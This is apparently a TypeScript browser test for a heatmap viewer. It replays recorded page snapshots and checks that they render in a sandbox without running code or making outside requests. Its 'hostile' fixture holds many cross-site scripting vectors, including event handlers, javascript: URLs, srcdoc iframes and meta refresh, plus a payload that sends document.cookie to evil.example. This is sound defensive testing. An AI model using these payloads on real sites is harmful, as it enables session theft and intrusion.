import { expect, it } from 'vitest';
import { SHOP, stage } from './stage';
// @ts-expect-error plain JavaScript
import { document as recorded, h, shopPage } from '../mock/shop.mjs';

const at = stage();
const MAP = `${SHOP}/heatmaps?period=30d&tab.map=/kahvit`;

/** All that was asked of anybody but the server itself and the site's own domain; what the policy stopped has asked nobody. */
function watch(): string[] {
  const asked: string[] = [];
  const own = (url: URL): boolean => url.origin === at.origin() || url.protocol === 'data:' || url.hostname === 'paahto.example';
  at.page.on('request', (request) => {
    if (!own(new URL(request.url()))) asked.push(request.url());
  });
  at.page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') asked.splice(asked.indexOf(request.url()), 1);
  });
  at.page.on('dialog', (dialog) => {
    asked.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  at.page.on('popup', (popup) => asked.push(`popup: ${popup.url()}`));
  return asked;
}

/** What the browser says of what it refuses; frames without scripts refuse that of the browser's driver too. */
const REFUSED = /violates the following Content Security Policy|Blocked script execution in 'about:blank'|Failed to load|ERR_/;

/** Whatever runs says so on the window that it runs in, or on the one around it. */
const RUN = "top.hacked=(top.hacked||0)+1;window.hacked=1;fetch('https://evil.example/'+document.cookie)";
const EVIL = 'https://evil.example';

function hostile() {
  return recorded(
    'Hostile',
    `@import url(${EVIL}/import.css); body { background: url(${EVIL}/css.png); } @font-face { font-family: x; src: url(${EVIL}/x.woff2); } h1 { font-family: x; cursor: url(${EVIL}/c.cur), auto; } li::before { content: url(${EVIL}/content.png); }`,
    [
      h('h1', { onclick: RUN, onmouseover: RUN, style: `background:url(${EVIL}/style.png);list-style:url("javascript:${RUN}")` }, 'Hostile'),
      h('script', {}, RUN),
      h('script', { src: `${EVIL}/x.js` }),
      h('noscript', {}, h('img', { src: `${EVIL}/noscript.png` })),
      h('img', { src: `${EVIL}/image.png`, onerror: RUN, onload: RUN, srcset: `${EVIL}/2x.png 2x`, rr_width: '200px', rr_height: 90, alt: 'Far' }),
      h('img', { src: 'x:y', onerror: RUN }),
      h('picture', {}, h('source', { srcset: `${EVIL}/source.png` }), h('img', { src: 'https://paahto.example/own.png', width: '40', height: '40' })),
      h('a', { href: `javascript:${RUN}`, ping: `${EVIL}/ping`, target: '_top' }, 'Script'),
      h('a', { href: `  java\nscript:${RUN}` }, 'Broken word'),
      h('a', { href: `${EVIL}/away`, target: '_top', id: 'away' }, 'Away'),
      h('a', { href: `${EVIL}/file`, download: '' }, 'Load'),
      h('iframe', { src: `javascript:${RUN}`, srcdoc: `<script>${RUN}</script><img src=${EVIL}/srcdoc.png>`, rr_width: '100px', rr_height: '80px' }),
      h('iframe', { src: `${EVIL}/frame` }),
      ...Array.from({ length: 60 }, () => h('iframe', { srcdoc: `<script>${RUN}</script>` })),
      h('object', { data: `${EVIL}/object`, type: 'text/html' }),
      h('embed', { src: `${EVIL}/embed` }),
      h('video', { src: `${EVIL}/v.mp4`, autoplay: '', poster: `${EVIL}/poster.png`, rr_mediaState: 'played', onplay: RUN }),
      h('audio', { src: `${EVIL}/a.mp3`, autoplay: '', rr_mediaState: 'played' }),
      h('form', { action: `${EVIL}/form`, method: 'post', id: 'form' }, h('input', { name: 'q', autofocus: '', onfocus: RUN, value: 'x' }), h('button', { formaction: `${EVIL}/button`, type: 'submit' }, 'Send')),
      h('svg', { width: '80', height: '80', onload: RUN }, h('script', {}, RUN), h('foreignobject', { width: '80', height: '80' }, h('iframe', { srcdoc: `<script>${RUN}</script>` })), h('use', { href: `${EVIL}/sprite.svg#a` }), h('image', { href: `${EVIL}/svg.png`, width: '10', height: '10' }), h('animate', { onbegin: RUN, attributeName: 'x', dur: '1s' }), h('set', { attributeName: 'href', to: `javascript:${RUN}` })),
      h('marquee', { onstart: RUN }, 'Run'),
      h('details', { open: '', ontoggle: RUN }, h('summary', {}, 'More')),
      h('body', { onload: RUN }, 'Body in a body'),
      h('custom-thing', { is: 'x-y' }, 'Custom'),
      { type: 2, id: 70_001, tagName: 'annotation-xml', isCustom: true, attributes: {}, childNodes: [] },
      { type: 2, id: 70_002, tagName: 'bad<name', attributes: {}, childNodes: [] },
      { type: 2, id: 70_003, tagName: 'DIV', attributes: { 'x"y': '1', 'a=b': '2', onCLICK: RUN }, childNodes: [{ type: 4, id: 1, textContent: 'cdata' }, { type: 3, id: 2, textContent: null }, null, 7, { type: 99 }] },
      { type: 2, id: 70_004, tagName: 'p', attributes: null, childNodes: 'no list' },
    ],
    [
      h('meta', { 'http-equiv': 'refresh', content: `0;url=${EVIL}/refresh` }),
      h('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }),
      h('base', { href: `${EVIL}/`, target: '_top' }),
      h('link', { rel: 'stylesheet', href: `${EVIL}/gone.css` }),
      h('link', { rel: 'prefetch', href: `${EVIL}/prefetch` }),
      h('link', { rel: 'preload', as: 'image', href: `${EVIL}/preload.png` }),
      h('link', { rel: 'modulepreload', href: `${EVIL}/module.js` }),
      h('link', { rel: 'icon', href: `${EVIL}/icon.png` }),
      h('link', { rel: 'dns-prefetch', href: EVIL }),
      h('style', {}, `p { background: url(${EVIL}/late.png) }`),
    ],
  );
}

const drawn = () => at.page.locator('.map:not([aria-busy="true"]) canvas').first().waitFor({ state: 'attached' });

/** Nothing has run, been asked, or led away. */
async function expectCalm(asked: readonly string[]): Promise<void> {
  expect(asked).toEqual([]);
  await expect.poll(() => at.page.evaluate(() => 'hacked' in window || 'hacked' in document.querySelector('iframe')!.contentWindow!)).toBe(false);
  expect(at.address()).toBe(MAP);
  await expect.poll(() => at.page.evaluate(() => document.querySelector('iframe')!.contentWindow!.location.pathname)).toMatch(/\/backdrop$/);
  await expect.poll(() => at.page.locator('iframe').getAttribute('sandbox')).toBe('allow-same-origin');
}

it('runs nothing and asks nobody, whatever a page tries, and still shows the map', async () => {
  const asked = watch();
  at.state.snapshot = { snapshot: hostile() };
  at.expected(REFUSED);
  await at.open(MAP);
  await drawn();
  // What pictures and late styles might do.
  await at.page.waitForTimeout(1500);
  const inside = await at.page.evaluate(() => {
    const doc = document.querySelector('iframe')!.contentDocument!;
    const all = [...doc.querySelectorAll('*')];
    const far = doc.querySelector<HTMLElement>('img[alt="Far"]')!.getBoundingClientRect();
    return {
      text: doc.querySelector('h1')!.textContent,
      scripts: doc.querySelectorAll('script, base, meta[http-equiv], link, iframe[src], iframe[srcdoc]').length,
      handlers: all.flatMap((one) => one.getAttributeNames()).filter((name) => /^on/i.test(name)),
      links: [...doc.querySelectorAll('a')].map((link) => link.getAttribute('href')),
      far: [far.width, far.height],
    };
  });
  expect(inside).toEqual({ text: 'Hostile', scripts: 0, handlers: [], links: ['#', '#', '#', '#'], far: [200, 90] });
  // A click on the map reaches nothing of the page.
  const frame = (await at.page.locator('iframe').boundingBox())!;
  for (let y = 20; y < 300; y += 40) await at.page.mouse.click(frame.x + 40, frame.y + y);
  await at.page.keyboard.press('Tab');
  await at.page.keyboard.press('Enter');
  expect(asked).toEqual([]);
  await expect.poll(() => at.page.evaluate(() => 'hacked' in window)).toBe(false);
});

it('asks nobody else for pictures than the site, as the policy has it', async () => {
  const asked = watch();
  at.state.snapshot = { snapshot: hostile() };
  at.expected(REFUSED);
  await at.open(MAP);
  await drawn();
  await at.page.waitForTimeout(800);
  await expectCalm(asked);
});

it('shows a page of 50,000 elements', async () => {
  const rows = Array.from({ length: 12_500 }, (_, row) => h('div', { class: 'row' }, h('span', {}, String(row)), h('b', {}, 'x')));
  at.state.snapshot = { snapshot: recorded('Long', '.row { height: 20px }', [h('main', {}, ...rows)]) };
  const begin = Date.now();
  await at.open(MAP);
  await drawn();
  console.log(`a page of 50,000 nodes: shown after ${Date.now() - begin} ms`);
  await expectCalm([]);
});

it('shows a page nested 700 deep, up to a depth', async () => {
  let node = h('b', {}, 'end');
  for (let depth = 0; depth < 700; depth++) node = h('div', {}, node);
  at.state.snapshot = { snapshot: recorded('Deep', '', [h('h1', {}, 'Deep'), node]) };
  await at.open(MAP);
  await drawn();
  await expect.poll(() => at.page.evaluate(() => document.querySelector('iframe')!.contentDocument!.querySelectorAll('div').length)).toBeGreaterThan(400);
});

for (const [name, snapshot] of [
  ['nothing', {}],
  ['no page', { type: 0, id: 1, childNodes: [] }],
  ['a page of nonsense', { type: 0, id: 1, childNodes: [{ type: 2, tagName: 'html', attributes: [], childNodes: [[], 'x', { type: 'y' }] }] }],
] as const) {
  it(`shows the map where the snapshot holds ${name}`, async () => {
    at.state.snapshot = { snapshot };
    await at.open(MAP);
    await drawn();
    await at.page.getByText(/^\d+ clicks in/).waitFor();
    await at.page.getByText('100% unanchored').waitFor();
  });
}

it('keeps the map of a page that covers itself with a dialog', async () => {
  const page = shopPage();
  page.childNodes[1].childNodes[1].childNodes.push(h('dialog', { open: '', rr_open_mode: 'modal' }, h('p', {}, 'Evästeet'), h('button', {}, 'Hyväksy')));
  at.state.snapshot = { snapshot: page };
  await at.open(MAP);
  await drawn();
  await expect.poll(() => at.page.evaluate(() => document.querySelector('iframe')!.contentDocument!.querySelector('dialog')!.matches(':modal'))).toBe(true);
});
